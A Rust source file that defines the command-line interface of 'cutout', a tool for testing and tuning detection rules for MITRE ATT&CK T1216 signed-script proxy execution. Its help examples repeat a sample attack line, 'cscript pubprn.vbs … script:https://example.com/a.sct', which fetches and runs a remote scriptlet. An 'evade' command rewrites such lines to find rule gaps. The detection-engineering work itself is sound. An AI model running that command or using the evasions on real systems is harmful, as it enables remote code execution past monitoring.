//! What can be asked for.

use clap::builder::{PossibleValuesParser, TypedValueParser};
use clap::{Parser, Subcommand, ValueEnum};
use cutout_core::catalog::pack::PACKS;
use cutout_core::convert::{Schema, Target};
use cutout_core::event::Format;
use cutout_core::report::{Level, Verdict};
use cutout_core::rule::Language;
use std::path::PathBuf;

/// Detection rules for MITRE ATT&CK T1216 on command lines and logs: what matches, why, and
/// what can't be told.
#[derive(Debug, Parser)]
#[command(name = "cutout", version, max_term_width = 100, after_help = EXIT_CODES)]
pub struct Args {
    #[command(subcommand)]
    pub command: Command,
}

const EXIT_CODES: &str = "\
Example:
  echo 'cscript .\\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct' | cutout eval -

Exit codes: 0 = ran, 1 = findings when --fail-on asks, or a broken case, 2 = could not run, or not on all of the input.
Nothing leaves this machine: cutout opens no network connection.";

#[derive(Debug, Subcommand)]
pub enum Command {
    Eval(Eval),
    Lint(Lint),
    Explain(Explain),
    Guide(Guide),
    Suggest(Suggest),
    Evade(Evade),
    Test(Test),
    Exercise(Exercise),
    Compare(Compare),
    Convert(Convert),
    Reach(crate::reach::args::Reach),
}

/// Evaluate rules on events: match, can't tell, or no match
///
/// A rule that can't be used is named on standard error and the others run.
#[derive(Debug, clap::Args)]
#[command(after_help = "\
Examples:
  echo 'cscript .\\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct' | cutout eval -
  cutout eval lines.txt                          the pack t1216 on command lines or any log
  cutout eval --rules rules/ --json logs/        your rules on a folder of logs, for a machine
  cutout eval --fail-on high events.ndjson       exit 1 on a match of level high or above

Files may be of any size, and compressed with gzip: they are read piece by piece.

With --json every line is one object: {\"event\",\"rule\",\"verdict\",\"needs\"}, the last one {\"summary\"}.
event.index counts the events of the whole run from 0, event.line the lines of a file from 1;
event.file names the file where several are evaluated. \"partial\":true stands beside a verdict that
is about the filters of a rule only, because the rest of it can't be run.")]
pub struct Eval {
    /// Files with events in any format, folders of them, or - for standard input
    #[arg(required = true, value_name = "EVENTS")]
    pub events: Vec<PathBuf>,
    #[command(flatten)]
    pub choice: Choice,
    #[command(flatten)]
    pub reading: Reading,
    /// Print JSON, one object a line
    #[arg(long)]
    pub json: bool,
    /// Show the rules that don't match, too, and every can't tell
    #[arg(long)]
    pub all: bool,
    /// Exit with 1 where there is a match; cannot-tell: or a can't tell; a level: a match of a rule
    /// of at least that level
    #[arg(long, value_name = "WHAT", value_parser = fail_on())]
    pub fail_on: Option<FailOn>,
}

/// Which rules are evaluated.
#[derive(Debug, clap::Args)]
pub struct Choice {
    /// Rules in Sigma, EQL, KQL or SPL: a file, a folder of them, or PACK/NAME for a rule that
    /// comes with cutout; may be given again
    #[arg(long = "rules", visible_alias = "rule", value_name = "PATH")]
    pub rules: Vec<PathBuf>,
    /// Rules that come with cutout; t1216 where neither --pack nor --rules is given
    #[arg(long, value_parser = PossibleValuesParser::new(PACKS.iter().map(|pack| pack.id)))]
    pub pack: Option<String>,
    /// Read the rules as this language, instead of telling it from the file
    #[arg(long, value_parser = language())]
    pub language: Option<Language>,
}

/// How events are read and which rules look at them.
#[derive(Debug, clap::Args)]
pub struct Reading {
    /// Read the events as this format, instead of telling it from the text
    #[arg(long, value_parser = format())]
    pub format: Option<Format>,
    /// Evaluate every rule on every event, whatever log the rule is for
    #[arg(long)]
    pub ignore_logsource: bool,
    /// Bytes of text that are taken at once; tests set it, so that small files have many windows
    #[arg(long, hide = true, default_value_t = 4 << 20)]
    pub window: usize,
}

/// Check rules: ok, unsupported or error, a file each, and figures a language
///
/// unsupported: the rule is sound, but uses something that cutout does not evaluate; what it is and
/// where stands beneath. Where that is a warning, the rest of the rule is evaluated: filters only.
/// A rule that is ok may still carry warnings.
#[derive(Debug, clap::Args)]
#[command(after_help = "\
Examples:
  echo 'process where process.name : \"cscript.exe\"' | cutout lint --language eql -
  cutout lint rules/                             every file of rules beneath
  cutout lint --fail-on error rules/             exit 1 where a rule is broken
  cutout lint --quiet rules/                     only what is not ok, and the figures
  cutout lint --json rule.yml                    for a machine

In a folder, files are left out and counted that plainly hold something other than rules. A file
that is named itself is always read.

With --json every line is one object: {\"path\",\"language\",\"status\",\"diagnostics\"}, the last one
{\"summary\"}.")]
pub struct Lint {
    /// Rule files, folders of them, or - for standard input
    #[arg(required = true, value_name = "PATH")]
    pub paths: Vec<PathBuf>,
    /// Read all of them as this language, instead of telling it from each file
    #[arg(long, value_parser = language())]
    pub language: Option<Language>,
    /// Print only what is not ok, and the summary
    #[arg(long, short)]
    pub quiet: bool,
    /// Print JSON, one object a line
    #[arg(long)]
    pub json: bool,
    /// Exit with 1 where a file is that bad or worse
    #[arg(long, value_name = "STATUS")]
    pub fail_on: Option<BadStatus>,
}

/// Show why rules match events, or don't
///
/// For each event and rule: the verdict, the condition as a tree with PASS, FAIL or UNKNOWN and
/// the reason, the rule's line at the left, and the event's text with what was found underlined.
#[derive(Debug, clap::Args)]
#[command(after_help = "\
Examples:
  echo 'cscript .\\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct' | cutout explain -
  cutout explain --rule t1216/pubprn lines.txt   a rule of the pack
  cutout explain --rule rule.yml --line 3 lines.txt
  cutout explain --rule rule.yml --verdict cannot-tell events.ndjson

Without --rule, those rules of the pack are explained that match or for which something speaks.

With --json every line is what `eval --json` prints, with the event's fields, how many indicators
hold (evidence), the trace, and exclusions of other rules that would hold. Spans count bytes: those
of trace nodes in the rule file, those of marks in the field's value.")]
pub struct Explain {
    /// Files with events in any format, folders of them, or - for standard input
    #[arg(required = true, value_name = "EVENTS")]
    pub events: Vec<PathBuf>,
    #[command(flatten)]
    pub choice: Choice,
    /// Only events of this line
    #[arg(long, value_name = "N")]
    pub line: Option<u32>,
    /// Only pairs with this verdict
    #[arg(long, value_parser = verdict())]
    pub verdict: Option<Verdict>,
    #[command(flatten)]
    pub reading: Reading,
    /// Print JSON, one object a line
    #[arg(long)]
    pub json: bool,
}

/// Show what rules filter by: events, fields, indicators, exclusions, and how common each is
///
/// `here` counts the rules that were loaded, `reach` the rules of the public catalog with the same
/// predicate. Reach is popularity, not a false-positive rate.
#[derive(Debug, clap::Args)]
#[command(after_help = "\
Examples:
  cutout guide --pack t1216                      the rules that come with cutout
  cutout guide --pack t1216 --vendor sigma       only the rules of one vendor
  cutout guide --rules rules/ --json             your rules, for a machine

With --json there is one object: {\"summary\",\"vendors\",\"platforms\",\"events\",\"fields\",
\"indicators\",\"exclusions\",\"rules\",\"telemetry\",\"notes\"}. The numbers in used_by are
places in rules, from 0.")]
pub struct Guide {
    #[command(flatten)]
    pub choice: Choice,
    /// Only rules in the languages of this vendor: sigma, elastic or splunk
    #[arg(long, value_name = "NAME")]
    pub vendor: Option<String>,
    /// Only rules that state this platform, such as windows
    #[arg(long, value_name = "NAME")]
    pub platform: Option<String>,
    /// Print JSON
    #[arg(long)]
    pub json: bool,
    /// Show all rows of each table
    #[arg(long)]
    pub all: bool,
}

/// Write matching command lines in other ways that Windows accepts, and show which rules still match
///
/// For each event that a rule matches: the mutations of its command line by the rules, `+` where a
/// rule survives, `-` where it is evaded, `?` where it can't tell; the line as the log shows it, and
/// what no longer holds in the rule. What a shell takes out before the process starts changes
/// nothing in the log, stands with a blank, and counts for no score.
#[derive(Debug, clap::Args)]
#[command(after_help = "\
Examples:
  echo 'cscript .\\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct' | cutout evade -
  cutout evade --rule t1216/pubprn lines.txt     one rule of the pack
  cutout evade --rules rules/ --line 3 --json events.ndjson

With --json every line is one object: {\"event\",\"rules\",\"line\",\"rows\",\"scores\",\"note\"}. The cells of
a row and the scores stand in the order of rules.")]
pub struct Evade {
    /// Files with events in any format, folders of them, or - for standard input
    #[arg(required = true, value_name = "EVENTS")]
    pub events: Vec<PathBuf>,
    #[command(flatten)]
    pub choice: Choice,
    /// Only events of this line
    #[arg(long, value_name = "N")]
    pub line: Option<u32>,
    #[command(flatten)]
    pub reading: Reading,
    /// Print JSON, one object a line
    #[arg(long)]
    pub json: bool,
}

/// Suggest exclusions that quiet a rule on benign events and lose no malicious one
///
/// Candidates come from the benign events and from the exclusions of public rules. Each is
/// written into the rule, which is read and evaluated again: what stands beside it is what came
/// of that. `!` says how an attacker could satisfy it.
#[derive(Debug, clap::Args)]
#[command(after_help = "\
Examples:
  printf '%s\\n' 'cscript .\\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct' | tee bad.txt
  printf '%s\\n' 'cscript .\\pubprn.vbs prn01.example.com script:check' | tee fine.txt
  cutout suggest --rule t1216/pubprn --malicious bad.txt --benign fine.txt
  cutout suggest --rule t1216/pubprn --malicious bad.txt --benign fine.txt --apply 1

The order: most benign events removed, then the most specific, then the hardest to satisfy on
purpose, then the shortest. --apply prints the whole text of the changed rule, or of the filter
file, on standard output, and what it does on standard error; no file is changed.

With --json every line is one object a rule: {\"rule\",\"malicious\",\"benign\",\"candidates\",
\"lost_a_malicious\",\"note\"}, the last one {\"summary\"}; with --apply there is one object: {\"text\",
\"added\",\"before\",\"after\",\"lost\"} and how it is placed. Events are counted from 0 over all files,
the malicious ones first.")]
pub struct Suggest {
    /// Files with events that the rule must go on to match, folders of them, or - for standard
    /// input; may be given again
    #[arg(long, value_name = "EVENTS")]
    pub malicious: Vec<PathBuf>,
    /// Files with events that the rule should not match; may be given again
    #[arg(long, value_name = "EVENTS", required = true)]
    pub benign: Vec<PathBuf>,
    #[command(flatten)]
    pub choice: Choice,
    /// Print the rule with this one of the exclusions, counted from 1
    #[arg(long, value_name = "N")]
    pub apply: Option<usize>,
    /// Where --apply puts it: for Sigma, into filter_main_ or filter_optional_, or into a filter
    /// file beside the rule
    #[arg(long, value_name = "WHERE", default_value = "main", requires = "apply")]
    pub placement: Place,
    #[command(flatten)]
    pub reading: Reading,
    /// Print JSON, one object a line
    #[arg(long)]
    pub json: bool,
}

/// Show what the changes to a rule gain and lose on the same events
///
/// Both versions are evaluated on the events of all files together. `+` is a match now, `-` was
/// one, `?` the rule can't tell any more, `=` it can tell now that there is none; then the
/// predicates that one version has and the other has not.
#[derive(Debug, clap::Args)]
#[command(after_help = "\
Examples:
  cutout compare old.yml new.yml lines.txt
  cutout compare t1216/pubprn mine.eql logs/     versions may be of different languages
  cutout compare old.yml new.yml --fail-on lost logs/

With --json every line is one object: {\"event\",\"rule\",\"change\":\"gained|lost|opened|settled\"}, then
{\"rule\",\"predicates\"} for each rule, the last one {\"summary\"}.")]
pub struct Compare {
    /// The version before: a file, or PACK/NAME for a rule that comes with cutout
    #[arg(value_name = "OLD")]
    pub old: PathBuf,
    /// The version after
    #[arg(value_name = "NEW")]
    pub new: PathBuf,
    /// Files with events in any format, folders of them, or - for standard input
    #[arg(required = true, value_name = "EVENTS")]
    pub events: Vec<PathBuf>,
    #[command(flatten)]
    pub reading: Reading,
    /// Print JSON, one object a line
    #[arg(long)]
    pub json: bool,
    /// Exit with 1 where an event is lost, gained, or has another verdict at all
    #[arg(long, value_name = "WHAT")]
    pub fail_on: Option<Changed>,
}

/// When `compare` reports findings.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Changed {
    Lost,
    Gained,
    Any,
}

/// Write rules as queries of another engine, with the same meaning
///
/// A query is exact where it selects what the rule matches. Where the engine can't say a part, the
/// query is a superset and says what is left out, or it is refused with the reason.
#[derive(Debug, clap::Args)]
#[command(after_help = "\
Examples:
  cutout convert --to splunk t1216/pubprn        one rule that comes with cutout
  cutout convert --to splunk --schema cim rule.yml
  cutout convert --to duckdb rules/ --json       a folder of rules, for a machine
  cutout convert --to spark --mapping names.yml rule.yml

A mapping is a file with the names of your own table:
  cutout-mapping: 1
  table: hunting.process_events
  fields:
    Image: exe_path

With --json every line is one object: {\"rule\",\"target\",\"schema\",\"status\":\"exact|superset|refused\",
\"reasons\",\"query\",\"fields\"}, the last one {\"summary\"}. Exit codes: 0 = all converted, 2 = a rule
was refused, or could not be read.")]
pub struct Convert {
    /// Rules in Sigma, EQL, KQL or SPL: files, folders of them, or PACK/NAME for a rule that comes
    /// with cutout; the pack t1216 where none is given
    #[arg(value_name = "RULE")]
    pub rules: Vec<PathBuf>,
    /// Rules that come with cutout
    #[arg(long, value_parser = PossibleValuesParser::new(PACKS.iter().map(|pack| pack.id)))]
    pub pack: Option<String>,
    /// Read the rules as this language, instead of telling it from the file
    #[arg(long, value_parser = language())]
    pub language: Option<Language>,
    /// The engine
    #[arg(long, value_name = "TARGET", value_parser = target())]
    pub to: Target,
    /// The log that it searches, by whose names fields are called; the usual one of the engine
    /// where this is not given
    #[arg(long, value_name = "LOG", value_parser = schema())]
    pub schema: Option<Schema>,
    /// A file with the names of your own table
    #[arg(long, value_name = "FILE")]
    pub mapping: Option<PathBuf>,
    /// Print JSON, one object a line
    #[arg(long)]
    pub json: bool,
}

/// Run case files: labelled events, and what rules have to say of them
///
/// A malicious event has to be matched by a rule, a benign one by none, and what a case expects of
/// single rules has to hold. The tables count a rule's matches on malicious (TP) and benign (FP)
/// events, what it misses (FN) and leaves alone (TN), and the events for which it can't tell.
#[derive(Debug, clap::Args)]
#[command(after_help = "\
Examples:
  cutout test cases.yml                          exit 0 where all holds, 1 where a case is broken
  cutout test --junit report.xml cases/          every case file beneath, and a report for CI
  cutout test --rules rules/ regression_data/    SigmaHQ's regression folders, by their info.yml
  cutout test --export folders/ cases.yml        the cases as such folders

The rules are those the case file names, the pack t1216 where it names none, or those of --rules and
--pack. docs/cases.md is the reference of the format. Exit codes: 0 = all holds, 1 = a case is
broken, 2 = a case could not be run.")]
pub struct Test {
    /// Case files, info.yml files of regression folders, or folders of either
    #[arg(required = true, value_name = "CASES")]
    pub cases: Vec<PathBuf>,
    #[command(flatten)]
    pub choice: Choice,
    /// Print JSON, one object a case file
    #[arg(long)]
    pub json: bool,
    /// Write a JUnit report
    #[arg(long, value_name = "FILE")]
    pub junit: Option<PathBuf>,
    /// Write the cases that rules match as regression folders, one a rule, into this folder
    #[arg(long, value_name = "FOLDER")]
    pub export: Option<PathBuf>,
}

/// Check exercises, or hold a rule to the goals of one
///
/// Without --rule: each file has to be sound, its starter has to fail a goal, and its answer has to
/// meet all. With --rule: which goals the rule meets, and why not.
#[derive(Debug, clap::Args)]
#[command(after_help = "\
Examples:
  cutout exercise exercises/                     check all exercises of a folder
  cutout exercise --rule rule.yml exercise.yml   try a rule on one

docs/exercises.md is the reference of the format. Exit codes: 0 = sound, or all goals met, 1 = a
goal that should be met is not, 2 = a file could not be read.")]
pub struct Exercise {
    /// Exercise files, or folders of them
    #[arg(required = true, value_name = "EXERCISE")]
    pub exercises: Vec<PathBuf>,
    /// The rule to hold to the goals
    #[arg(long, value_name = "PATH")]
    pub rule: Option<PathBuf>,
    /// Read the rule as this language, instead of telling it from the file
    #[arg(long, value_parser = language(), requires = "rule")]
    pub language: Option<Language>,
}

/// Where `suggest --apply` puts an exclusion.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Place {
    Main,
    Optional,
    File,
}

/// When `eval` reports findings.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum FailOn {
    Match,
    /// A match or a can't tell.
    CannotTell,
    /// A match of a rule of at least this level.
    Level(Level),
}

/// When `lint` reports findings.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum BadStatus {
    Unsupported,
    Error,
}

fn format() -> impl TypedValueParser<Value = Format> {
    named(Format::ALL.map(|format| (format.name(), format)))
}

fn language() -> impl TypedValueParser<Value = Language> {
    named(Language::ALL.map(|language| (language.name(), language)))
}

fn target() -> impl TypedValueParser<Value = Target> {
    named(Target::ALL.map(|target| (target.name(), target)))
}

fn schema() -> impl TypedValueParser<Value = Schema> {
    named(Schema::ALL.map(|schema| (schema.name(), schema)))
}

fn verdict() -> impl TypedValueParser<Value = Verdict> {
    named([
        ("match", Verdict::Match),
        ("cannot-tell", Verdict::CannotTell),
        ("no-match", Verdict::NoMatch),
    ])
}

fn fail_on() -> impl TypedValueParser<Value = FailOn> {
    named([
        ("match", FailOn::Match),
        ("cannot-tell", FailOn::CannotTell),
        ("informational", FailOn::Level(Level::Informational)),
        ("low", FailOn::Level(Level::Low)),
        ("medium", FailOn::Level(Level::Medium)),
        ("high", FailOn::Level(Level::High)),
        ("critical", FailOn::Level(Level::Critical)),
    ])
}

/// Takes one of the names and lists them all in the help and in the message about a wrong one.
fn named<T: Copy + Send + Sync + 'static, const N: usize>(
    values: [(&'static str, T); N],
) -> impl TypedValueParser<Value = T> {
    PossibleValuesParser::new(values.map(|(name, _)| name)).try_map(move |name| {
        let value = values.iter().find(|(known, _)| *known == name);
        value.map(|(_, value)| *value).ok_or("not one of the names")
    })
}

#[cfg(test)]
mod tests {
    use clap::CommandFactory;

    #[test]
    fn the_arguments_are_consistent() {
        super::Args::command().debug_assert();
    }
}
